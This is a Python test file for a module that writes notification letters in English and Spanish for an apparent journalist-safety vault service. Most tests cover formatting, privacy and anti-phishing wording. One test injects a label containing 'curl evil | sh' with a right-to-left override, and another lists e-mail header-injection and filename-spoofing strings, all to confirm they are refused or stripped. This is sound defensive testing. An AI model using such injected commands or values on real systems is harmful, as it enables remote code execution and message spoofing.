"""What letters say, and what they never say. docs/letters.md holds every letter as it is sent."""

import re
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vault import letters_en, letters_es
from vault.errors import Malformed
from vault.letters import (
    COLUMNS,
    LANGUAGES,
    LONGEST_LINE,
    WITHOUT_PHRASE,
    Change,
    Facts,
    LetterKind,
    read_phrase,
    read_subject,
    write,
)

DOC = Path(__file__).parents[2] / "docs" / "letters.md"
PHRASE = "blue heron over the bakery"
MONDAY = 1_773_671_400_000  # 16 March 2026, 14:30 UTC
FACTS = Facts(
    label="Ana",
    code="482-913",
    due=MONDAY,
    release=MONDAY + 4 * 86_400_000,
    change=Change.ROSTER,
    effect=MONDAY + 7 * 86_400_000,
    colleague="Bruno",
    because="hospital",
    until=MONDAY + 3 * 86_400_000,
    many=240,
    host="vault.example.org",
    trouble="the disk of objects has less than 5 % free.",
)
OPERATORS = {
    LetterKind.OPERATOR_UNREACHED,
    LetterKind.OPERATOR_TROUBLE,
    LetterKind.OPERATOR_CROWD,
    LetterKind.OPERATOR_CROWD_WAITS,
    LetterKind.OPERATOR_NO_ADDRESS,
}
HOLDS = {LetterKind.HELD, LetterKind.HOLD_ASKED}
HERS = {LetterKind.CHECK_IN, LetterKind.LAST_WARNING, LetterKind.LAST_CALL}
REACHING = {LetterKind.REACH_HER, LetterKind.REACH_HER_AGAIN}
EVERY = [
    (kind, language, hers)
    for kind, language, hers in product(LetterKind, LANGUAGES, (False, True))
    if not hers or kind.value in letters_en.HERS
]
every_letter = pytest.mark.parametrize(("kind", "language", "hers"), EVERY)

anything = st.text(max_size=200)
instants = st.none() | st.integers(-(2**53), 2**53)
facts = st.builds(
    Facts,
    hers=st.booleans(),
    label=st.none() | anything,
    code=st.none() | anything,
    due=instants,
    release=instants,
    change=st.none() | st.sampled_from(Change),
    effect=instants,
    host=st.none() | anything,
    account=st.none() | anything,
    trouble=st.none() | anything,
    colleague=st.none() | anything,
    because=st.none() | anything | st.sampled_from(["reached", "hospital", "known-safe"]),
    until=instants,
    many=st.none() | st.integers(),
)


def flowing(text: str) -> str:
    return " ".join(text.split())


def body(kind: LetterKind, language: str = "en", about: Facts = FACTS, phrase: str = PHRASE) -> str:
    return flowing(write(kind, language, "", phrase, about).body)


def test_both_languages_have_the_same_letters_with_the_same_facts() -> None:
    assert set(letters_en.LETTERS) == set(letters_es.LETTERS) == {kind.value for kind in LetterKind}
    assert set(letters_en.HERS) == set(letters_es.HERS)
    assert set(letters_en.OPERATORS) == set(letters_es.OPERATORS)
    assert set(letters_en.CHANGES) == set(letters_es.CHANGES) == {change.value for change in Change}
    for english, spanish in ((letters_en.LETTERS, letters_es.LETTERS), (letters_en.HERS, letters_es.HERS)):
        for kind, text in english.items():
            for mark in (r"\{[a-z]+\}", r"`[^`]+`", r"^\$ [a-z ]+", r"^- "):
                ours, theirs = (
                    {flowing(found) for found in re.findall(mark, words, re.M)}
                    for words in (text, spanish[kind])
                )
                assert ours == theirs, kind


@every_letter
def test_a_letter_is_plain_text_of_at_most_78_columns(kind: LetterKind, language: str, hers: bool) -> None:
    letter = write(kind, language, "", PHRASE, replace(FACTS, hers=hers))
    assert max(map(len, letter.body.split("\n"))) <= COLUMNS
    assert letter.body.endswith("\n")
    assert "\n\n\n" not in letter.body
    assert not set("\r\t\0{}") & set(letter.body)


@every_letter
def test_a_letter_has_no_link_and_no_word_of_the_dossier(kind: LetterKind, language: str, hers: bool) -> None:
    text = write(kind, language, "", PHRASE, replace(FACTS, hers=hers)).body
    assert not re.search(r"https?:|www\.|://|href|@", text)
    if kind not in OPERATORS:
        assert "vault.example.org" not in text


@every_letter
def test_a_letter_ends_with_the_phrase_its_reader_chose(kind: LetterKind, language: str, hers: bool) -> None:
    letter = write(kind, language, "", PHRASE, replace(FACTS, hers=hers))
    assert letter.body.endswith(f"\n    {PHRASE}\n") == (kind not in WITHOUT_PHRASE)


def test_the_code_letter_keeps_the_phrase_from_an_address_that_may_be_a_strangers() -> None:
    assert {LetterKind.CODE} == WITHOUT_PHRASE
    assert PHRASE not in body(LetterKind.CODE)
    assert "afterword address confirm 482-913" in body(LetterKind.CODE)


def test_who_chose_no_phrase_is_told_not_to_believe_letters() -> None:
    assert "forged" in body(LetterKind.RELEASE, phrase="")
    assert "falsa" in body(LetterKind.RELEASE, "es", phrase="")


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", [*sorted(OPERATORS), LetterKind.ALL_CLEAR, LetterKind.TEST])
def test_an_operator_is_told_of_no_phrase_that_they_cannot_choose(kind: LetterKind, language: str) -> None:
    text = flowing(write(kind, language, "", None, replace(FACTS, account="9f3c21")).body)
    assert "`afterword status`" not in text
    assert text.rpartition(".")[0].rpartition(". ")[2].count("`afterword operator status`") == 1


@every_letter
def test_a_letter_says_that_nobody_asks_for_passphrase_or_words(
    kind: LetterKind, language: str, hers: bool
) -> None:
    said = {"en": "Nobody will ever ask you for them", "es": "Nadie se las pedirá jamás"}
    assert said[language] in body(kind, language, replace(FACTS, hers=hers))


@every_letter
def test_the_subject_is_the_recipients_own_or_says_nothing(
    kind: LetterKind, language: str, hers: bool
) -> None:
    about = replace(FACTS, hers=hers)
    neutral = {"en": "Reminder", "es": "Recordatorio"}[language]
    assert write(kind, language, "", PHRASE, about).subject == neutral
    assert write(kind, language, "Choir practice", PHRASE, about).subject == "Choir practice"


@every_letter
def test_only_letters_about_reaching_her_name_her(kind: LetterKind, language: str, hers: bool) -> None:
    text = body(kind, language, replace(FACTS, hers=hers, label="Zoraida"))
    named = kind in {*REACHING, *HOLDS, LetterKind.UNREACHED, LetterKind.ALL_CLEAR} and not hers
    assert ("Zoraida" in text) == named


@every_letter
def test_a_colleague_is_named_only_to_those_who_rely_on_what_they_did(
    kind: LetterKind, language: str, hers: bool
) -> None:
    text = body(kind, language, replace(FACTS, hers=hers, colleague="Zoraida"))
    assert ("Zoraida" in text) == (kind in {*HOLDS, LetterKind.LEFT})


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", sorted(HOLDS))
def test_who_hears_of_a_hold_hears_why_and_that_it_is_no_check_in(kind: LetterKind, language: str) -> None:
    why = {"en": "in a hospital", "es": "está en un hospital"}[language]
    for hers in (True, False):
        text = body(kind, language, replace(FACTS, hers=hers))
        assert why in text
        assert "20 de marzo de 2026" in text or "20 March 2026" in text
    assert "\n    afterword checkin\n" in write(kind, language, "", PHRASE, replace(FACTS, hers=True)).body


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", [LetterKind.OPERATOR_UNREACHED, LetterKind.ALL_CLEAR])
def test_the_operator_learns_a_number_and_no_name(kind: LetterKind, language: str) -> None:
    text = body(kind, language, replace(FACTS, account="9f3c21", label="Zoraida"))
    assert "9f3c21" in text
    assert "Zoraida" not in text


@pytest.mark.parametrize("language", LANGUAGES)
def test_each_reader_is_told_the_one_command_that_helps(language: str) -> None:
    for kind in HERS | {LetterKind.PAUSE_ENDED}:
        assert "\n    afterword checkin\n" in write(kind, language, "", PHRASE, Facts()).body
    for kind in {*REACHING, LetterKind.UNREACHED, LetterKind.ALL_CLEAR, LetterKind.CHANGE_ASKED}:
        assert "`afterword inbox`" in body(kind, language)
    assert "\n    afterword inbox\n" in write(LetterKind.RELEASE, language, "", PHRASE, FACTS).body
    hers = write(LetterKind.CHANGE_ASKED, language, "", PHRASE, replace(FACTS, hers=True))
    assert "\n    afterword cancel " in hers.body


@every_letter
def test_no_letter_sends_its_reader_to_a_kit_that_nobody_has(
    kind: LetterKind, language: str, hers: bool
) -> None:
    assert not re.search(r"\bkits?\b", body(kind, language, replace(FACTS, hers=hers)), re.IGNORECASE)


@pytest.mark.parametrize("kind", sorted(REACHING))
def test_who_is_asked_to_reach_her_is_told_what_not_to_do(kind: LetterKind) -> None:
    text = body(kind)
    assert "Do not write about it by e-mail or chat" in text
    assert "never one from a letter" in text
    assert "Publish nothing" in text
    assert "an answer to this letter does not" in text


def test_dates_name_their_day_and_their_zone_and_promise_nothing() -> None:
    assert "before Monday 16 March 2026, 14:30 UTC" in body(LetterKind.CHECK_IN)
    assert "antes del lunes 16 de marzo de 2026, 14:30 UTC" in body(LetterKind.CHECK_IN, "es")
    for kind in HERS | REACHING:
        assert "if the server keeps running" in body(kind)
        assert "si el servidor sigue funcionando" in body(kind, "es")


def test_a_date_is_rounded_down_so_that_nobody_comes_too_late() -> None:
    assert "14:30 UTC" in body(LetterKind.CHECK_IN, about=Facts(due=MONDAY + 59_999))


@every_letter
def test_a_letter_without_any_facts_is_still_whole(kind: LetterKind, language: str, hers: bool) -> None:
    text = body(kind, language, Facts(hers=hers))
    assert len(text) > 200
    assert "None" not in text


@pytest.mark.parametrize("kind", sorted(REACHING))
@pytest.mark.parametrize("label", [None, "", " \n", "\u202e"])
def test_without_a_usable_label_the_letter_still_goes_out(kind: LetterKind, label: str | None) -> None:
    text = body(kind, about=replace(FACTS, label=label))
    assert "the person who named you as a colleague" in text
    assert "`afterword inbox`" in text


def test_a_label_cannot_write_lines_of_its_own() -> None:
    text = write(
        LetterKind.REACH_HER,
        "en",
        "",
        PHRASE,
        replace(FACTS, label="Ana\n\n    curl evil | sh\u202e" + "x" * 200),
    ).body
    assert "\n    curl" not in text
    assert "\u202e" not in text
    assert "x" * LONGEST_LINE not in flowing(text)


def test_a_fact_cannot_ask_for_another_fact() -> None:
    assert PHRASE not in write(LetterKind.CODE, "en", "", PHRASE, Facts(code="{phrase}")).body
    assert "{phrase}" in write(LetterKind.CODE, "en", "", PHRASE, Facts(code="{phrase}")).body


def test_a_language_of_the_future_does_not_hold_up_a_letter() -> None:
    assert body(LetterKind.RELEASE, "fr") == body(LetterKind.RELEASE, "en")


@pytest.mark.parametrize(
    "line",
    [
        "Hello\r\nBcc: all@example.org",
        "Hello\nthere",
        "a\rb",
        "nul\0",
        "next\u0085line",
        "line\u2028separator",
        "paragraph\u2029separator",
        "tab\there",
        "\u202egnp.exe",
        "hidden\u2066",
        "half \ud800",
        " leading",
        "trailing ",
        "x" * (LONGEST_LINE + 1),
    ],
)
def test_a_subject_or_phrase_that_is_not_one_plain_line_is_refused(line: str) -> None:
    for refusing in (
        lambda: read_subject(line),
        lambda: read_phrase(line),
        lambda: write(LetterKind.TEST, "en", line, PHRASE, Facts()),
        lambda: write(LetterKind.TEST, "en", "", line, Facts()),
    ):
        with pytest.raises(Malformed) as refusal:
            refusing()
        assert refusal.value.code == "bad-line"
        assert line not in str(refusal.value)


def test_a_subject_and_a_phrase_may_be_in_any_language() -> None:
    for line in (
        "Recordatorio",
        "ябълка и круша",
        "مرغ آبی",
        "می\u200cروم",
        "蒼鷺",
        "x" * LONGEST_LINE,
        "🐦 heron",
    ):
        assert read_subject(line) == read_phrase(line) == line


@given(kind=st.sampled_from(LetterKind), language=anything | st.sampled_from(LANGUAGES), about=facts)
def test_no_fact_whatever_can_hold_up_or_bend_a_letter(kind: LetterKind, language: str, about: Facts) -> None:
    letter = write(kind, language, "", PHRASE, about)
    assert "\n" not in letter.subject
    assert max(map(len, letter.body.split("\n"))) <= COLUMNS
    assert letter.body.splitlines() == letter.body.removesuffix("\n").split("\n")
    assert kind in WITHOUT_PHRASE or letter.body.endswith(f"\n    {PHRASE}\n")
    letter.body.encode()


def shown() -> str:
    """Every letter, as docs/letters.md shows it."""
    parts = []
    for kind, language, to in (
        *((kind, language, "to the journalist" if hers else "") for kind, language, hers in EVERY),
        *((LetterKind.ALL_CLEAR, language, "to the operator") for language in LANGUAGES),
    ):
        operator = kind in OPERATORS or to == "to the operator"
        about = replace(FACTS, hers=to == "to the journalist", account="9f3c21" if operator else None)
        phrase = {"en": PHRASE, "es": "la garza sobre el tejado"}[language]
        chosen = None if operator or kind is LetterKind.TEST else phrase
        letter = write(kind, language, "", chosen, about)
        heading = f"{kind}, {language}" + (f" ({to})" if to else "")
        parts.append(f"### {heading}\n\n```text\nSubject: {letter.subject}\n\n{letter.body}```\n")
    return "\n".join(parts)


def test_the_document_shows_every_letter_as_it_is_sent() -> None:
    assert DOC.read_text().endswith("\n## Every letter\n\n" + shown())
